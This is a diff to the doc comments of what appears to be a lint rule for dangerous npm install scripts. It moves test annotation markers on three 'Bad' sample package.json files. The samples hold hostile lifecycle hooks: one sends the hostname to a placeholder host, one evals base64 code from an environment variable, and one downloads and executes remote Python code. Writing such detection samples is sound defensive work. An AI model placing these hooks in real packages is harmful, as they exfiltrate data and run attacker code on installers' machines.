@@ -16,18 +16,18 @@
 //! ## Bad
 //!
 //! ```package
-//! == package.json
-//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node -e \"require('https').get('https://one.invalid/'+require('os').hostname())\""}} //~ here
+//! == package.json //~ 1
+//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node -e \"require('https').get('https://one.invalid/'+require('os').hostname())\""}}
 //! ```
 //!
 //! ```package
-//! == package.json
-//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node -e \"eval(Buffer.from(process.env.npm_config_x || '','base64')+'')\""}} //~ here
+//! == package.json //~ 1
+//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node -e \"eval(Buffer.from(process.env.npm_config_x || '','base64')+'')\""}}
 //! ```
 //!
 //! ```package
-//! == package.json
-//! {"name": "x", "version": "1.0.0", "scripts": {"install": "python3 -c \"import urllib.request as u; exec(u.urlopen('https://one.invalid/p').read())\""}} //~ here
+//! == package.json //~ 1
+//! {"name": "x", "version": "1.0.0", "scripts": {"install": "python3 -c \"import urllib.request as u; exec(u.urlopen('https://one.invalid/p').read())\""}}
 //! ```
 //!
 //! ## Good
